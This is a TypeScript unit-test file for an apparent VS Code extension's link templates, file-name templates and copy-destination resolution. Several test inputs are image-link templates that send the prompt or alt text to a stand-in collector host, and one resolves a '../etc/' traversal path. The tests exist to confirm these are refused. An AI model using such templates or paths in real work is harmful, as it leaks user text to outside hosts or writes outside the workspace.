// Unit tests for user link and alt-text templates, insertion planning, file-name templates and
// markdown.copyFiles.destination.
import * as assert from 'node:assert/strict';
import * as fc from 'fast-check';
import {
  checkTemplate,
  LINK_TEMPLATE_VARIABLES,
  renderAltText,
  renderLinkTemplate,
} from '../../src/core/linkTemplates';
import { LINK_FORMATS } from '../../src/core/linkFormats';
import { planInsertion } from '../../src/core/linkPlacement';
import {
  checkFileNameTemplate,
  DEFAULT_FILE_NAME_TEMPLATE,
  fileNameStem,
  templatedFileName,
} from '../../src/core/fileNameTemplate';
import { globToRegExp, isInside, matchDestination, resolveDestination } from '../../src/core/copyFilesDestination';

describe('link templates', () => {
  const parts = { path: 'img/a b.png', alt: 'A "b" [c]', prompt: 'A "b"\n[c] & more', width: 640, height: 480 };

  it("fills in the variables with the format's escaping, and HTML escaping inside attributes", () => {
    assert.equal(
      renderLinkTemplate('<img src="${path}" alt="${alt}" width="${width}">', LINK_FORMATS.markdown, parts),
      '<img src="img/a%20b.png" alt="A &quot;b&quot; [c]" width="640">',
    );
    assert.equal(
      renderLinkTemplate('![${alt}](${path}) ${width}x${height}', LINK_FORMATS.markdown, parts),
      '![A "b" \\[c\\]](img/a%20b.png) 640x480',
    );
    assert.equal(
      renderLinkTemplate('.. figure:: ${path}\n\n   ${prompt}', LINK_FORMATS.restructuredtext, parts),
      '.. figure:: img/a\\ b.png\n\n   A "b" [c] & more',
    );
  });

  it('reports unknown variables and empty templates', () => {
    assert.equal(checkTemplate('![${alt}](${path})', LINK_TEMPLATE_VARIABLES, 'x'), undefined);
    const unknown = checkTemplate('![${title}](${path})', LINK_TEMPLATE_VARIABLES, 'ideogram.linkTemplates.markdown');
    assert.equal(unknown?.reason, 'unknown-template-variable');
    assert.equal(unknown?.facts.variable, '${title}');
    assert.equal(unknown?.facts.setting, 'ideogram.linkTemplates.markdown');
    assert.ok(unknown?.facts.allowed?.includes('${path}'));
    assert.equal(checkTemplate('  ', LINK_TEMPLATE_VARIABLES, 'x')?.reason, 'empty-template');
  });

  it('alt text from a template is one line and shortened', () => {
    assert.equal(
      renderAltText('Figure: ${prompt} (${fileName})', { prompt: 'a\ncat', fileName: 'cat-1' }),
      'Figure: a cat (cat-1)',
    );
    assert.ok(renderAltText('${prompt}', { prompt: 'word '.repeat(100), fileName: '' }).length <= 121);
  });
});

describe('planInsertion', () => {
  it("inline formats stay at the cursor; a selection's new paragraph is kept", () => {
    assert.deepEqual(planInsertion(LINK_FORMATS.markdown, { text: 'some text' }), {
      placement: 'inline',
      atLineEnd: false,
      before: '',
      after: '',
    });
    assert.deepEqual(planInsertion(LINK_FORMATS.html, { text: 'x' }, '\n\n'), {
      placement: 'block',
      atLineEnd: false,
      before: '\n\n',
      after: '',
    });
  });

  it('reStructuredText inside text goes after the line, with blank lines around it', () => {
    assert.deepEqual(planInsertion(LINK_FORMATS.restructuredtext, { text: 'a sentence', next: 'more' }), {
      placement: 'block',
      atLineEnd: true,
      before: '\n\n',
      after: '\n',
    });
    assert.deepEqual(planInsertion(LINK_FORMATS.restructuredtext, { text: 'a sentence', next: '' }), {
      placement: 'block',
      atLineEnd: true,
      before: '\n\n',
      after: '',
    });
  });

  it('AsciiDoc on an empty line between paragraphs gets blank lines; LaTeX does not need them', () => {
    assert.deepEqual(planInsertion(LINK_FORMATS.asciidoc, { text: '', previous: 'para', next: 'para' }), {
      placement: 'block',
      atLineEnd: false,
      before: '\n',
      after: '\n',
    });
    assert.deepEqual(planInsertion(LINK_FORMATS.latex, { text: '  ', previous: 'para', next: 'para' }), {
      placement: 'block',
      atLineEnd: false,
      before: '',
      after: '',
    });
    assert.equal(planInsertion(LINK_FORMATS.asciidoc, { text: 'in text' }).placement, 'inline');
  });
});

describe('file name templates', () => {
  const now = new Date(2026, 10, 24, 11, 35, 12);
  const random = () => 0.5;

  it('the default gives the same names as before the setting existed', () => {
    assert.equal(
      templatedFileName(DEFAULT_FILE_NAME_TEMPLATE, { prompt: 'A Lighthouse at Dawn!', now, random }, 'jpg'),
      'a-lighthouse-at-dawn-20261124-113512-iiii.jpg',
    );
  });

  it('fills in document name, seed and date, and keeps the name one safe file name', () => {
    assert.equal(
      fileNameStem('${documentBaseName}-${seed}-${date}', { prompt: 'x', documentBaseName: 'My Guide', seed: 42, now }),
      'My Guide-42-20261124',
    );
    assert.equal(fileNameStem('../${documentBaseName}/x', { prompt: 'x', documentBaseName: 'a/b:c' }), 'a-b-c-x');
    assert.equal(fileNameStem('${seed}', { prompt: 'x' }), 'image', 'an empty result still names the file');
    assert.equal(fileNameStem('con', { prompt: 'x' }), 'con-image');
  });

  it('reports unknown variables', () => {
    assert.equal(checkFileNameTemplate(DEFAULT_FILE_NAME_TEMPLATE), undefined);
    assert.equal(checkFileNameTemplate('${title}')?.facts.variable, '${title}');
    assert.equal(checkFileNameTemplate('${title}')?.facts.setting, 'ideogram.fileNameTemplate');
  });

  it('never yields a path separator, a leading dot or a reserved name, whatever the template and values', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.option(fc.integer()), (template, documentBaseName, seed) => {
        const stem = fileNameStem(template, { prompt: template, documentBaseName, seed: seed ?? undefined, now });
        assert.ok(stem.length > 0 && stem.length <= 120);
        // eslint-disable-next-line no-control-regex
        assert.ok(!/[/\\<>:"|?*\u0000-\u001f]/.test(stem), stem);
        assert.ok(!/^[.\s-]|[.\s]$/.test(stem), stem);
      }),
    );
  });
});

describe('markdown.copyFiles.destination', () => {
  const document = { path: '/w/docs/guide/intro.md', workspaceFolder: '/w' };

  it('globs: relative ones match anywhere, /-anchored ones in a workspace folder', () => {
    assert.equal(matchDestination({ '*.md': 'img/' }, document, ['/w']), 'img/');
    assert.equal(matchDestination({ '/docs/**/*': 'x/' }, document, ['/w']), 'x/');
    assert.equal(matchDestination({ '/blog/**': 'x/' }, document, ['/w']), undefined);
    assert.equal(matchDestination({ '**/*.{mdx,md}': 'y/' }, document, ['/w']), 'y/');
    assert.ok(globToRegExp('**/.hidden/*.md')?.test('/w/.hidden/a.md'), 'dot files match');
  });

  it('resolves variables, relative and workspace-rooted destinations, as VS Code documents them', () => {
    assert.equal(resolveDestination('images/', document, 'a.png'), '/w/docs/guide/images/a.png');
    assert.equal(resolveDestination('/assets/${documentBaseName}/', document, 'a.png'), '/w/assets/intro/a.png');
    assert.equal(
      resolveDestination('/media/${documentRelativeDirName}/${fileName}', document, 'a.png'),
      '/w/media/docs/guide/a.png',
    );
    assert.equal(
      resolveDestination(
        '${documentWorkspaceFolder}/static/${documentFileName}-${fileExtName}/${fileName}',
        document,
        'a.png',
      ),
      '/w/static/intro.md-png/a.png',
    );
    assert.equal(
      resolveDestination('/${documentRelativeDirName/docs/public/}/${fileName}', document, 'a.png'),
      '/w/public/guide/a.png',
    );
    assert.equal(resolveDestination('${unknown}x/', document, 'a.png'), '/w/docs/guide/x/a.png');
    assert.equal(resolveDestination('', document, 'a.png'), '/w/docs/guide/a.png');
    assert.equal(
      resolveDestination('../../../../etc/', document, 'a.png'),
      '/etc/a.png',
      'normalised, so the caller can refuse it',
    );
    assert.ok(!isInside('/w', '/etc/a.png'));
    assert.ok(isInside('/w', '/w/a/b.png'));
    assert.ok(!isInside('/w', '/wx/a.png'));
  });
});

describe('a link template that would send text to another site (issue 24)', () => {
  const check = (template: string) =>
    checkTemplate(template, LINK_TEMPLATE_VARIABLES, 'ideogram.linkTemplates.markdown');
  it('is refused when the prompt or the alt text goes into an address with a host', () => {
    for (const template of [
      '<img src="https://collector.example/p.gif?q=${prompt}">',
      '![x](//collector.example/${alt}.png)',
      '![${alt}](${path}) ![](http://x.example/t?${prompt})',
    ])
      assert.equal(check(template)?.reason, 'remote-template', template);
  });
  it("is fine when the text stays out of any address (the image's own path may be anywhere)", () => {
    for (const template of [
      '<img src="${path}" alt="${alt}" title="${prompt}">',
      '![${alt}](${path}) <!-- see https://example.com/docs -->',
      '[![${alt}](${path})](https://example.com/gallery)',
      '<img src="https://cdn.example/${path}" alt="${alt}">',
    ])
      assert.equal(check(template), undefined, template);
  });
});

describe('a malformed glob in markdown.copyFiles.destination (issue 24)', () => {
  it('matches nothing instead of throwing a SyntaxError; the next glob still applies', () => {
    for (const glob of ['docs/[abc', 'docs/{a,b', '[z-a]/*.md']) assert.equal(globToRegExp(glob), undefined, glob);
    assert.equal(
      matchDestination(
        { 'docs/[abc': 'broken/', '**/*.md': 'images/' },
        { path: '/w/docs/a.md' } as Parameters<typeof matchDestination>[1],
        ['/w'],
      ),
      'images/',
    );
  });
});
